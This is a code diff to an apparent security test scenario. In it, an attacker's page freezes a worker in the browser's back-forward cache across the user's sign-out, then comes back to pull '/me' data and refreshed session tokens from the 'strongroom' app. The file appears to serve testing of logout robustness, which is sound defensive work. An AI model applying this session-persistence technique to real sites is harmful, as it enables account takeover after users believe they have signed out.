@@ -1,6 +1,7 @@
+import { setTimeout as delay } from "node:timers/promises";
 import { attack } from "../attack.js";
 
-export default attack({
+const frozenKeeper = attack({
   name: "a keeper that is frozen while the user signs out, and a forged session hint",
   threat: "persistent theft",
   target: "strongroom",
@@ -23,6 +24,7 @@ export default attack({
       const database = await done(indexedDB.open("strongroom"));
       return database.transaction("values", mode).objectStore("values");
     };
+    Object.assign(window, { phase: "back" });
     if (phase === "before the sign-out") {
       // A page may start as many as it likes. This one goes with the page into the back-forward cache.
       new Worker(it.scriptUrl("/vault-worker.js"));
@@ -38,9 +40,8 @@ export default attack({
       for (const [index, row] of rows.entries()) await done(store.put(row, keys[index]));
       return;
     }
-    for (let tries = 0; tries < 3; tries++) {
-      for (const url of [`${it.apiUrl}me`, `${it.ownApiUrl}me`]) it.steal(await send("GET", url));
-    }
+    const urls = [`${it.apiUrl}me`, `${it.ownApiUrl}me`, `${it.apiUrl}me?again`];
+    it.steal(...(await Promise.all(urls.map((url) => send("GET", url)))));
     it.steal(await send("POST", "/auth/refresh"), await send("GET", `${it.apiUrl}me`));
   },
   async play(stage) {
@@ -62,8 +63,17 @@ export default attack({
     await stage.closeThisTab(attackers);
     await browser.stopWorkers();
     await browser.driver.navigate().back();
-    await browser.waitFor("the attacker's page", () => browser.evaluate(() => typeof attacker === "object"));
-    await run("back");
+    // From the back-forward cache, or loaded again: then the app may leave for a silent sign-in at any time.
+    await browser.waitFor("the attacker's page", () =>
+      browser.evaluate((name) => {
+        if (typeof attacker !== "object") return false;
+        setTimeout(() => void attacker.run(name), 0);
+        return true;
+      }, frozenKeeper.name),
+    );
+    await delay(6_000);
   },
   gain: async (stage) => stage.requestAsTheUser(),
 });
+
+export default frozenKeeper;
